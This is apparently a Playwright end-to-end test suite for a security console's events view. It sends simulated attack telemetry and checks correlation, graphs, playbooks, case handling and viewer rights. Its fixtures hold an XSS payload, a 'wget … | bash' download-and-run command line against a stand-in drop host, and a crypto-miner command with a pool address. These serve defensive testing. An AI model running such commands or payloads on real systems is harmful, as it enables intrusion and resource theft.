import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { tempDir, startServer, waitFor } from "../helpers.ts";
import { browserSkip, ensureConsoleBuilt, launch, shot } from "../browser.ts";
import { addConsoleUser, agentSide, assertClean as clean, nav, signIn as signInAs, type AgentCred } from "../console-kit.ts";
import type { HostwardServer } from "../../src/server/index.ts";

/**
 * Security events in a real browser (EVT-2 … EVT-14): an SSH brute force from one address
 * against two assets, a logon with a hostile user name and a download in the attacker's session,
 * sent through the agent channel so the real ingest correlates them into one event; the list
 * with its stages, the details tabs, the provenance graph, a playbook's dry run and run, case
 * work in the activity log, the export — and a viewer who can only read. A second attack (a
 * brute force, a logon, a miner with its pool) is resolved from its recommended handling.
 */
const skip = browserSkip();
const tmp = tempDir("hw-console-events-");
const XSS = "<img src=x onerror=alert(1)>";
const ATTACKER = "5.9.20.20";
const DROP = "5.9.20.21";
let server: HostwardServer;
let base = "";
let adminToken = "";
let browser: Browser;
let web: AgentCred;
let db: AgentCred;
const send = (as: AgentCred, records: object[]) => agents.send(as, records);
const enrol = (hostname: string) => agents.enrol(hostname);
const signIn = (username: string) => signInAs(browser, base, username, { acceptDownloads: true });
let eventId = "";
let agents: ReturnType<typeof agentSide>;

async function api(path: string, method: "GET" | "PUT" | "POST" = "GET", payload?: object): Promise<any> {
  const r = await server.api.inject({ method, url: path, payload, headers: { authorization: `Bearer ${adminToken}` } });
  assert.equal(r.statusCode, 200, r.body);
  return r.json();
}
const logon = (outcome: "failure" | "success", user: string) => ({ kind: "logon", ts: Date.now(), service: "ssh", event: { outcome, reason: "password" }, source: { ip: ATTACKER }, user: { name: user } });

async function openEvent(page: Page, tab = "") {
  await page.goto(base + `/security-events?event=${eventId}${tab ? `&tab=${tab}` : ""}`);
  await page.getByTestId("event-heading").waitFor();
}

before(async () => {
  if (skip) return;
  ensureConsoleBuilt();
  ({ server, apiUrl: base, adminToken } = await startServer({ dataDir: join(tmp.dir, "s") }));
  await addConsoleUser(server, "ana", "analyst");
  await addConsoleUser(server, "watcher", "viewer");
  agents = agentSide(server);
  web = await enrol("web-1");
  db = await enrol("db-2");
  // BF-1 on both assets from one address (EVT-1: one targeted attack), then BF-2 the logon with a hostile user name …
  await send(web, Array.from({ length: 6 }, () => logon("failure", "root")));
  await send(db, Array.from({ length: 6 }, () => logon("failure", "admin")));
  await send(web, [logon("success", XSS)]);
  // … and a download run in the attacker's SSH session (its peer joins it to the attack)
  await send(web, [{
    kind: "process", ts: Date.now(), event: { action: "start" }, session: { sshdPid: 700, user: "root", sourceIp: ATTACKER },
    process: { pid: 4000, ppid: 700, name: "loader", executable: "/tmp/.x/loader", command_line: `/tmp/.x/loader -c wget -q -O- http://${DROP}/i | bash`, start: Date.now() - 2000 },
  }]);
  const events = await waitFor("one event of four alerts", async () => {
    const r = await api("/api/v1/events");
    return r.total === 1 && r.items[0].alertCount === 4 ? r : null;
  });
  eventId = events.items[0].id;
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await server?.close();
  tmp.cleanup();
});

test("EVT-2 EVT-3 the event list: the correlated event with its stages, assets, alert count and owner; filters in the URL; EVT-14 export of the listed events", { skip: skip ?? false }, async () => {
  const s = await signIn("ana");
  const { page } = s;
  await nav(page, "Security events");
  const rows = page.getByTestId("event-row");
  await rows.first().waitFor();
  assert.equal(await rows.count(), 1, "four alerts on two assets are one event");
  const row = rows.first();
  assert.equal(await row.getAttribute("data-id"), eventId);
  assert.match(await row.getByTestId("event-title").innerText(), new RegExp(`SSH brute force from ${ATTACKER.replaceAll(".", "\\.")}`));
  const stages = await row.getByTestId("event-stages").innerText();
  assert.match(stages, /Credential Access[\s\S]*Initial Access/, "ATT&CK stages in kill-chain order");
  assert.match(await row.getByTestId("event-assets").innerText(), /web-1[\s\S]*db-2|db-2[\s\S]*web-1/);
  assert.equal(await row.getByTestId("event-alerts").innerText(), "4");
  assert.match(await row.innerText(), /critical[\s\S]*Unhandled/i);
  assert.match(await page.getByTestId("status-chip-unhandled").innerText(), /1/);
  await shot(page, "events");

  // filters live in the URL: a severity that matches nothing, then text that does
  await page.getByLabel("Severity", { exact: true }).selectOption("low");
  await waitFor("no low event", async () => (await rows.count()) === 0 && new URL(page.url()).searchParams.get("severity") === "low");
  await page.getByLabel("Severity", { exact: true }).selectOption("");
  await page.getByTestId("event-search").fill(ATTACKER);
  await waitFor("the search in the URL", async () => new URL(page.url()).searchParams.get("q") === ATTACKER && (await rows.count()) === 1);
  await page.getByLabel("Time range").selectOption("custom");
  await page.getByLabel("From", { exact: true }).waitFor();
  assert.equal(new URL(page.url()).searchParams.get("range"), "custom");
  await waitFor("custom range still lists it", async () => (await rows.count()) === 1);

  // EVT-14: the export is the listed events as a workbook
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByTestId("event-export").click()]);
  assert.match(download.suggestedFilename(), /^hostward-events-\d{8}-\d{4}\.xlsx$/);
  const file = join(tmp.dir, "export.xlsx");
  await download.saveAs(file);
  assert.equal(readFileSync(file).subarray(0, 2).toString(), "PK", "an xlsx (zip) file");
  await clean(s);
  await s.ctx.close();
});

test("EVT-2 EVT-4 EVT-5 the details: overview with the kill chain, the chain's timeline and graph (IP, hosts, accounts as nodes), alerts opening the drawer, entities — a hostile user name stays text", { skip: skip ?? false }, async () => {
  const s = await signIn("ana");
  const { page } = s;
  await nav(page, "Security events");
  await page.getByTestId("event-row").first().click();
  await page.getByTestId("event-heading").waitFor();
  assert.equal(new URL(page.url()).searchParams.get("event"), eventId);

  // Overview: the kill chain lights the stages reached, the furthest marked
  const chain = page.getByTestId("kill-chain");
  await chain.waitFor();
  const overview = await api(`/api/v1/events/${eventId}`);
  const reached = await chain.locator("[data-reached=true] .ev-chain-name").evaluateAll((els) => els.map((el) => el.getAttribute("data-name")));
  assert.deepEqual(reached, overview.tactics.map((t: { name: string }) => t.name), "the tactics reached, in kill-chain order");
  assert.ok(reached.includes("Credential Access") && reached.includes("Initial Access"));
  assert.equal(await chain.locator(".furthest .ev-chain-name").getAttribute("data-name"), overview.stage.name, "the furthest stage marked");
  assert.match(await page.getByTestId("event-attackers").innerText(), new RegExp(ATTACKER.replaceAll(".", "\\.")));
  assert.match(await page.getByTestId("event-sources").innerText(), /ssh_brute_force[\s\S]*logon_after_brute_force/);
  assert.match(await page.getByTestId("event-affected").innerText(), /web-1[\s\S]*db-2|db-2[\s\S]*web-1/);
  await page.getByTestId("recommendation").first().waitFor();
  assert.match(await page.getByTestId("recommended").innerText(), /IP address[\s\S]*5\.9\.20\.20[\s\S]*Block the address/);
  await shot(page, "event-overview");

  // Chain: the timeline by time with stages, and the provenance graph
  await page.getByTestId("tab-chain").click();
  const items = page.getByTestId("timeline-item");
  await items.first().waitFor();
  assert.equal(await items.count(), 4);
  assert.equal(await items.nth(0).getByTestId("timeline-stage").textContent(), "Credential Access", "the brute force comes first");
  assert.ok((await page.getByTestId("timeline-user").allInnerTexts()).includes(XSS), "the hostile user name is text in the timeline");
  const graph = await api(`/api/v1/events/${eventId}/graph`);
  const nodes = page.locator(".react-flow__node");
  await waitFor("the graph drawn", async () => (await nodes.count()) === graph.nodes.length, 15_000);
  const drawn = new Set(graph.edges.map((e: { from: string; to: string; relation: string }) => `${e.from}\n${e.to}\n${e.relation}`));
  await waitFor("its edges drawn", async () => (await page.locator(".react-flow__edge").count()) === drawn.size);
  const labels = await page.getByTestId("graph-node-label").allInnerTexts();
  for (const want of [ATTACKER, "web-1", "db-2", "root", "admin", XSS, DROP, "loader"]) assert.ok(labels.includes(want), `a node for ${want}: ${JSON.stringify(labels)}`);
  assert.equal(await page.locator("[data-testid=graph-node][data-malicious=true]").count(), graph.nodes.filter((n: { malicious: boolean }) => n.malicious).length, "malicious nodes marked");
  const edgeText = await page.locator(".react-flow__edge-text").allTextContents();
  assert.ok(edgeText.some((t) => t.startsWith("attacked")) && edgeText.some((t) => t.startsWith("logged on from")), JSON.stringify(edgeText));
  // layered left to right: the attacker's address sits left of the hosts it attacked
  const x = async (label: string) => (await page.locator("[data-testid=graph-node]", { has: page.getByText(label, { exact: true }) }).first().boundingBox())!.x;
  assert.ok((await x(ATTACKER)) < (await x("web-1")), "ELK lays the graph out left to right");
  // clicking a node shows its details
  await page.locator("[data-testid=graph-node]", { has: page.getByText(ATTACKER, { exact: true }) }).first().click();
  const panel = page.getByTestId("node-details");
  await panel.waitFor();
  assert.match(await panel.innerText(), /IP address[\s\S]*malicious[\s\S]*5\.9\.20\.20[\s\S]*this attacked/i);
  await page.locator("[data-testid=graph-node]", { has: page.getByText(XSS, { exact: true }) }).first().click();
  assert.equal(await page.getByTestId("node-label").innerText(), XSS, "the hostile user name is text in the details");
  await page.getByRole("button", { name: "Close details" }).click();
  await shot(page, "event-graph");

  // Alerts: the event's alerts; one opens the alert drawer
  await page.getByTestId("tab-alerts").click();
  const alertRows = page.getByTestId("event-alert-row");
  await alertRows.first().waitFor();
  assert.equal(await alertRows.count(), 4);
  assert.ok((await page.getByTestId("event-alert-user").allInnerTexts()).includes(XSS));
  await alertRows.filter({ hasText: "Logon after brute force" }).click();
  const drawer = page.getByTestId("alert-drawer");
  await drawer.getByText("Details").waitFor();
  assert.equal(await drawer.getByTestId("drawer-user").innerText(), XSS);
  // EVT-1: the drawer names the alert's event and links back to it
  assert.match(String(await drawer.getByText("in a security event →").getAttribute("href")), /^\/security-events\?event=evt_/);
  await drawer.getByRole("button", { name: "Close" }).click();

  // Entities: kinds, malicious flag, a way to the entity's other events
  await page.getByTestId("tab-entities").click();
  const ents = page.getByTestId("entity-row");
  await ents.first().waitFor();
  assert.equal(await ents.count(), graph.nodes.length);
  assert.match(await ents.first().innerText(), /IP address[\s\S]*5\.9\.20\.20[\s\S]*malicious/i, "malicious first");
  assert.ok((await page.getByTestId("entity-label").allInnerTexts()).includes(XSS));
  await ents.first().getByRole("link", { name: "Other events" }).click();
  await page.getByTestId("entity-title").waitFor();
  assert.equal(await page.getByTestId("entity-title").innerText(), ATTACKER);
  assert.equal(await page.getByTestId("entity-event-row").count(), 1);
  await clean(s);
  await s.ctx.close();
});

test("EVT-7 EVT-10 a playbook for the attacker's address: only the ones for IPs listed; a dry run shows each step on both assets (the address is blocked already: skipped, with why); the run queues the rest and sets the event Handling", { skip: skip ?? false }, async () => {
  const s = await signIn("ana");
  const { page } = s;
  await openEvent(page);
  await page.getByTestId("recommendation").filter({ hasText: ATTACKER }).getByTestId("playbooks-open").click();
  const dialog = page.getByTestId("playbook-dialog");
  await dialog.waitFor();
  assert.equal(await dialog.getByTestId("playbook-target").innerText(), ATTACKER);
  const options = await dialog.getByTestId("playbook-option").evaluateAll((els) => els.map((e) => e.getAttribute("data-id")));
  assert.ok(options.includes("block-ip-firewall") && options.includes("contain-brute-force"), JSON.stringify(options));
  assert.ok(!options.includes("isolate-host") && !options.includes("kill-and-quarantine-process"), "only playbooks for an address");
  await dialog.locator("[data-testid=playbook-option][data-id=contain-brute-force]").click();
  assert.equal(await dialog.getByTestId("playbook-run").isDisabled(), true, "no run before a dry run");
  const before = (await api("/api/v1/actions?limit=200")).items.length;
  await dialog.getByTestId("playbook-dry-run").click();
  const steps = dialog.getByTestId("plan-step");
  await steps.first().waitFor();
  assert.equal(await steps.count(), 6, "three steps on each of the two assets");
  const plan = await steps.allInnerTexts();
  // BF-3 blocked the brute-forcing address on its own: the plan says so instead of blocking twice
  assert.equal(plan.filter((t) => /block_ip[\s\S]*skipped[\s\S]*already blocked/.test(t)).length, 2, JSON.stringify(plan));
  assert.equal(plan.filter((t) => /web_deny_ip[\s\S]*will queue[\s\S]*ip: 5\.9\.20\.20/.test(t)).length, 2, JSON.stringify(plan));
  assert.ok(plan.some((t) => /run_baseline[\s\S]*web-1[\s\S]*will queue/.test(t)) && plan.some((t) => /run_baseline[\s\S]*db-2[\s\S]*will queue/.test(t)));
  assert.equal((await api("/api/v1/actions?limit=200")).items.length, before, "a dry run queues nothing");
  await dialog.getByTestId("playbook-run").click();
  await page.getByText("Playbook Contain brute-force attacker", { exact: false }).waitFor();
  const denies = (await api("/api/v1/actions?limit=200")).items.filter((a: { type: string; params: { ip?: string } }) => a.type === "web_deny_ip" && a.params.ip === ATTACKER);
  assert.deepEqual(new Set(denies.map((b: { agentId: string }) => b.agentId)), new Set([web.agentId, db.agentId]));
  await waitFor("the event is Handling", async () => (await page.getByTestId("event-status").first().innerText()) === "Handling");
  await page.getByTestId("tab-activity").click();
  await page.getByTestId("activity-item").first().waitFor();
  assert.match(await page.getByTestId("activity-item").first().innerText(), /status: unhandled → handling: playbook Contain brute-force attacker[\s\S]*user:ana[\s\S]*4 tasks queued, 2 skipped/);
  await waitFor("the queued tasks listed", async () => (await page.getByTestId("task-row").filter({ hasText: "web_deny_ip" }).count()) === 2);
  await clean(s);
  await s.ctx.close();
});

test("EVT-8 EVT-9 EVT-11 EVT-12 EVT-13 case work: owner with a hand-over remark, severity with a remark, the whitelist confirm, then Handled with a remark — both in the activity log; the alerts turn Handled", { skip: skip ?? false }, async () => {
  const s = await signIn("ana");
  const { page } = s;
  await openEvent(page);
  await page.getByTestId("event-owner-open").click();
  const owner = page.getByTestId("owner-dialog");
  await owner.getByLabel("New owner").selectOption({ label: "ana (me)" });
  assert.equal(await owner.getByTestId("case-submit").isDisabled(), true, "a hand-over needs a remark");
  await owner.getByLabel("Hand-over remark").fill("taking it: blocks queued, check the accounts");
  await owner.getByTestId("case-submit").click();
  await waitFor("owner shown", async () => /owner: ana/.test(await page.getByTestId("event-owner").innerText()));

  // EVT-12 severity with a remark: it then stays as set
  await page.getByTestId("event-severity-open").click();
  const sev = page.getByTestId("severity-dialog");
  await sev.getByLabel("New severity").selectOption("high");
  await sev.getByLabel("Remark").fill("the logon was a honeypot account");
  await sev.getByTestId("case-submit").click();
  await page.getByText("set by an analyst").first().waitFor();

  // EVT-9 the whitelist confirm says what would happen (cancelled here)
  await page.getByTestId("event-whitelist-open").click();
  const wl = page.getByTestId("whitelist-dialog");
  assert.match(await wl.innerText(), /custom whitelist rule[\s\S]*leaves this event[\s\S]*whitelisted automatically/);
  assert.equal(await wl.getByTestId("case-submit").isDisabled(), true, "whitelisting needs a remark");
  await wl.getByRole("button", { name: "Cancel" }).click();

  await page.getByTestId("event-status-open").click();
  const dialog = page.getByTestId("status-dialog");
  await dialog.getByRole("radio", { name: /Handled/ }).check();
  assert.match(await dialog.innerText(), /4 unhandled alerts become Handled/);
  await dialog.getByLabel("How it was handled").fill("blocked the source on both assets");
  await dialog.getByLabel("Remark").fill(`confirmed with the owner of web-1; ${XSS}`);
  await dialog.getByTestId("case-submit").click();
  await waitFor("Handled", async () => (await page.getByTestId("event-status").first().innerText()) === "Handled");

  await page.getByTestId("tab-activity").click();
  const first = page.getByTestId("activity-item").first();
  await first.waitFor();
  assert.match(await first.getByTestId("activity-detail").innerText(), /status: handling → handled: blocked the source on both assets; 4 alerts handled/);
  assert.equal(await first.getByTestId("activity-remark").innerText(), `confirmed with the owner of web-1; ${XSS}`, "the remark is text");
  const all = await page.getByTestId("activity-item").allInnerTexts();
  assert.ok(all.some((t) => /owner: no one → ana[\s\S]*taking it: blocks queued/.test(t)), JSON.stringify(all));
  assert.ok(all.some((t) => /severity: critical → high[\s\S]*honeypot account/.test(t)), JSON.stringify(all));
  const alerts = (await api(`/api/v1/events/${eventId}/alerts`)).items;
  assert.deepEqual(alerts.map((a: { status: string }) => a.status), ["handled", "handled", "handled", "handled"]);
  await clean(s);
  await s.ctx.close();
});

test("ACC-1 a viewer reads the event, its graph and activity but has no case actions and no playbooks", { skip: skip ?? false }, async () => {
  const v = await signIn("watcher");
  const { page } = v;
  await openEvent(page);
  await page.getByTestId("kill-chain").waitFor();
  await page.getByTestId("recommendation").first().waitFor();
  assert.equal(await page.getByTestId("event-actions").count(), 0, "no status, owner, severity or whitelist");
  assert.equal(await page.getByTestId("playbooks-open").count(), 0);
  assert.equal(await page.getByTestId("recommend-open").count(), 0, "no recommended handling");
  await page.getByTestId("tab-chain").click();
  await page.locator(".react-flow__node").first().waitFor();
  await page.locator("[data-testid=graph-node]", { has: page.getByText(ATTACKER, { exact: true }) }).first().click();
  await page.getByTestId("node-details").waitFor();
  assert.equal(await page.getByTestId("node-playbooks").count(), 0);
  await page.getByTestId("tab-entities").click();
  await page.getByTestId("entity-row").first().waitFor();
  assert.equal(await page.getByRole("button", { name: "Playbooks…" }).count(), 0);
  await page.getByTestId("tab-activity").click();
  await page.getByTestId("activity-item").first().waitFor();
  await clean(v);
  await v.ctx.close();
});

test("EVT-6 EVT-7 RSP-1 recommended handling: the attacker's risk level and reasons; one item unchecked, the block's validity set to 1d; resolve queues only the checked items (Handling), the tasks go queued → sent → failed (Failed, with the reason); a viewer has no Recommended handling", { skip: skip ?? false }, async () => {
  const ATTACKER2 = "5.9.30.30", POOL = "5.9.31.31", MINER = "/var/tmp/.x/kswapd1";
  type Item = { entityKey: string; action: string; selected: boolean; assetIds: string[]; validity: string | null; unavailable: string | null; target: Record<string, unknown> };
  // BF-3 off while this attack arrives: the recommendation blocks the address, not precision defence
  await api("/api/v1/settings/defence", "PUT", { enabled: false });
  let app: { agentId: string; secret: string }, cache: { agentId: string; secret: string };
  try {
    app = await enrol("app-3");
    cache = await enrol("cache-4");
    const fail = (user: string) => Array.from({ length: 6 }, () => ({ ...logon("failure", user), source: { ip: ATTACKER2 } }));
    await send(app, fail("deploy"));
    await send(app, [{ ...logon("success", "deploy"), source: { ip: ATTACKER2 } }]);
    const cmd = `${MINER} -o stratum+tcp://${POOL}:3333 -u 44AFFq5kSiGBoZ4N --donate-level 1`;
    await send(app, [{
      kind: "process", ts: Date.now(), event: { action: "start" }, session: { sshdPid: 900, user: "deploy", sourceIp: ATTACKER2 },
      process: { pid: 5151, ppid: 900, name: "kswapd1", executable: MINER, command_line: cmd, start: Date.now() - 1000, hash: { sha256: "b".repeat(64) } },
    }, {
      kind: "connection", ts: Date.now(), event: { action: "opened" }, network: { transport: "tcp", type: "ipv4", direction: "outbound" }, source: { ip: "10.0.0.5", port: 40000 },
      destination: { ip: POOL, port: 3333 }, process: { pid: 5151, name: "kswapd1", executable: MINER, command_line: cmd }, firstSeen: Date.now(), lastSeen: Date.now(),
    }]);
    await send(cache, fail("root"));
  } finally {
    await api("/api/v1/settings/defence", "PUT", { enabled: true });
  }
  const ev = await waitFor("the second attack as one event on both assets", async () => {
    const r = await api("/api/v1/events");
    return r.items.find((e: { attackerIps: string[]; assets: unknown[]; alertTypes: string[] }) => e.attackerIps.includes(ATTACKER2) && e.assets.length === 2 && e.alertTypes.some((t) => t.startsWith("mining")));
  });
  const id2: string = ev.id;
  const rec = await api(`/api/v1/events/${id2}/recommendations`);
  const items = rec.items as Item[];
  const ipRisk = rec.risks.find((r: { key: string }) => r.key === `ip:${ATTACKER2}`);
  const block = items.find((i) => i.entityKey === `ip:${ATTACKER2}` && i.action === "block");
  const lock = items.find((i) => i.entityKey === `account:${app!.agentId}:deploy` && i.action === "lock");
  assert.ok(ipRisk && block && lock, JSON.stringify(items.map((i) => `${i.action} ${i.entityKey}`)));
  assert.ok(block.selected && lock.selected && block.validity !== "1d", "both preselected; the block's default validity is not the one we choose");
  assert.ok(items.some((i) => !i.selected), "something is offered, not preselected");

  const s = await signIn("ana");
  const { page } = s;
  await page.goto(base + `/security-events?event=${id2}`);
  await page.getByTestId("event-heading").waitFor();
  // the overview shows each malicious entity's risk level
  await page.getByTestId("recommendation").filter({ hasText: ATTACKER2 }).getByTestId("risk-level").waitFor();
  await page.getByTestId("recommend-open").click();
  const dialog = page.getByTestId("recommend-dialog");
  const risk = dialog.locator(`[data-testid=risk][data-key="ip:${ATTACKER2}"]`);
  await risk.waitFor();
  // EVT-6: the level and every reason, as sentences
  assert.equal(await risk.getByTestId("risk-level").getAttribute("data-level"), ipRisk.level);
  assert.equal(ipRisk.level, "critical", "a brute force that got in, on two assets, just now");
  const reasons = await risk.getByTestId("risk-reasons").locator("li").allInnerTexts();
  assert.equal(reasons.length, ipRisk.reasons.length);
  ipRisk.reasons.forEach((x: { text: string }, n: number) => assert.ok(reasons[n]!.toLowerCase().includes(x.text.toLowerCase()), `${reasons[n]} shows ${x.text}`));
  assert.match(reasons[0]!, /^\+\d\s+It .*brute-forced logons/, "what it did, with its points");
  assert.ok(reasons.some((t) => /logged on after guessing a password/.test(t)) && reasons.includes("+1\nSeen on 2 assets in 1 event over the last 30 days."), JSON.stringify(reasons));
  // EVT-7: the items as the API recommends them; the ones not preselected say why
  const rows = dialog.getByTestId("rec-item");
  await rows.first().waitFor();
  assert.equal(await rows.count(), items.length);
  const row = (i: Item) => dialog.locator(`[data-testid=rec-item][data-key="${i.entityKey}"][data-action=${i.action}]`);
  for (const i of items) {
    assert.equal(await row(i).getByTestId("rec-item-check").isChecked(), i.selected && !i.unavailable, `${i.action} ${i.entityKey}`);
    assert.equal(await row(i).getByTestId("rec-why-not").count(), i.selected ? 0 : 1, `${i.action} ${i.entityKey} says why it is not preselected`);
  }
  assert.match(await dialog.locator(`[data-testid=rec-item][data-action=isolate]`).getByTestId("rec-why-not").innerText(), /Not preselected — isolation is offered, never preselected/);
  assert.equal(await row(block).getByTestId("rec-item-validity").inputValue(), block.validity);
  assert.equal(await row(block).getByRole("checkbox", { name: "app-3" }).isChecked(), true, "blocked on both assets");
  assert.equal(await row(block).getByRole("checkbox", { name: "cache-4" }).isChecked(), true);
  // edit: the account stays unlocked, the address is blocked for a day
  await row(lock).getByTestId("rec-item-check").uncheck();
  await row(block).getByTestId("rec-item-validity").selectOption("1d");
  await dialog.getByTestId("rec-remark").fill("miner on app-3; deploy's password is being changed by its owner");
  const checked = items.filter((i) => i.selected && !i.unavailable && i !== lock);
  assert.match(await dialog.getByTestId("rec-summary").innerText(), new RegExp(`^${checked.length} items checked`));
  // the whole dialog in the picture: a taller window, scrolled to its top
  await page.setViewportSize({ width: 1440, height: 1560 });
  await dialog.evaluate((el) => el.closest(".modal")?.scrollTo(0, 0));
  await shot(page, "event-handling");
  await page.setViewportSize({ width: 1440, height: 900 });
  const before = new Set((await api("/api/v1/actions?limit=500")).items.map((a: { id: string }) => a.id));
  await dialog.getByTestId("rec-resolve").click();
  await page.getByText("Resolved: ", { exact: false }).waitFor();
  await waitFor("the event is Handling", async () => (await page.getByTestId("event-status").first().innerText()) === "Handling");
  assert.equal(await dialog.count(), 0, "the dialog closed");

  // RSP-1: the tasks in Response activity, queued
  const expected = checked.flatMap((i) => i.assetIds.map((a) => `${i.action} ${i.entityKey} ${a}`)).sort();
  await page.getByTestId("tab-activity").click();
  const tasks = page.getByTestId("handling-task");
  await waitFor("the tasks listed", async () => (await tasks.count()) === expected.length);
  assert.deepEqual([...new Set(await tasks.evaluateAll((els) => els.map((e) => e.getAttribute("data-status"))))], ["queued"]);
  assert.ok(await page.getByTestId("tasks-live").isVisible(), "polled while open");
  // through the API: only the checked items, with the chosen validity
  const listed = (await api(`/api/v1/events/${id2}/tasks`)).items as { action: string; entityKey: string; assetId: string; status: string; validUntil: string | null; createdAt: string; actionId: string }[];
  assert.deepEqual(listed.map((t) => `${t.action} ${t.entityKey} ${t.assetId}`).sort(), expected);
  const fresh = (await api("/api/v1/actions?limit=500")).items.filter((a: { id: string }) => !before.has(a.id)) as { id: string; type: string; agentId: string; params: Record<string, unknown>; policyId: string | null }[];
  const TYPE: Record<string, string> = { block: "block_ip", kill: "kill_process", quarantine: "quarantine_file", lock: "lock_account", isolate: "isolate_host" };
  assert.deepEqual(fresh.map((a) => `${a.type} ${a.agentId}`).sort(), checked.flatMap((i) => i.assetIds.map((a) => `${TYPE[i.action]} ${a}`)).sort(), "an agent action per checked item and asset, nothing else");
  assert.ok(!fresh.some((a) => a.type === "lock_account"), "the unchecked lock became nothing");
  const policies = (await api(`/api/v1/ip-policies?ip=${ATTACKER2}`)).items as { assetId: string; createdAt: string; expiresAt: string }[];
  assert.deepEqual(policies.map((p) => p.assetId).sort(), [app!.agentId, cache!.agentId].sort());
  for (const p of policies) assert.equal(Date.parse(p.expiresAt) - Date.parse(p.createdAt), 86_400_000, "blocked for the chosen 1d");
  for (const t of listed.filter((x) => x.entityKey === `ip:${ATTACKER2}`)) assert.equal(Date.parse(t.validUntil!) - Date.parse(t.createdAt), 86_400_000);
  assert.match(await tasks.filter({ hasText: ATTACKER2 }).first().getByTestId("task-until").innerText(), /in (23|24) h|in 1 d\b/);

  // the agent of app-3 collects its tasks (sent), then the kill fails: the event is Failed, with why
  const auth = { authorization: `Bearer ${app!.agentId}.${app!.secret}` };
  const got = (await server.agentChannel.inject({ method: "GET", url: "/agent/v1/actions?wait=0", headers: auth })).json().actions as { id: string; type: string }[];
  assert.ok(got.some((a) => a.type === "kill_process"));
  await waitFor("app-3's tasks shown as sent", async () => (await page.locator(`[data-testid=handling-task][data-status=sent]`).count()) === got.length);
  const kill = got.find((a) => a.type === "kill_process")!;
  const r = await server.agentChannel.inject({ method: "POST", url: `/agent/v1/actions/${kill.id}/result`, headers: auth, payload: { status: "failed", result: `kill 5151: operation not permitted ${XSS}` } });
  assert.equal(r.statusCode, 200, r.body);
  await waitFor("the event is Failed", async () => (await page.getByTestId("event-status").first().innerText()) === "Failed");
  const failure = page.getByTestId("event-failure");
  await failure.waitFor();
  assert.match(await failure.getByTestId("failure-what").innerText(), /kill process 5151/);
  assert.equal(await failure.getByTestId("failure-reason").innerText(), `kill 5151: operation not permitted ${XSS}`, "the agent's reason, as text");
  assert.equal(await page.locator("[data-testid=handling-task][data-action=kill] [data-testid=task-status]").getAttribute("data-status"), "failed");
  await clean(s);
  await s.ctx.close();

  // a viewer reads the risk and the tasks but cannot resolve
  const v = await signIn("watcher");
  await v.page.goto(base + `/security-events?event=${id2}`);
  await v.page.getByTestId("recommendation").filter({ hasText: ATTACKER2 }).getByTestId("risk-level").waitFor();
  assert.equal(await v.page.getByTestId("recommend-open").count(), 0, "no Recommended handling for a viewer");
  await v.page.getByTestId("tab-entities").click();
  await v.page.getByTestId("entity-row").first().waitFor();
  assert.equal(await v.page.getByTestId("recommend-open").count(), 0);
  await v.page.getByTestId("tab-activity").click();
  await waitFor("a viewer sees the tasks", async () => (await v.page.getByTestId("handling-task").count()) === expected.length);
  await clean(v);
  await v.ctx.close();
});
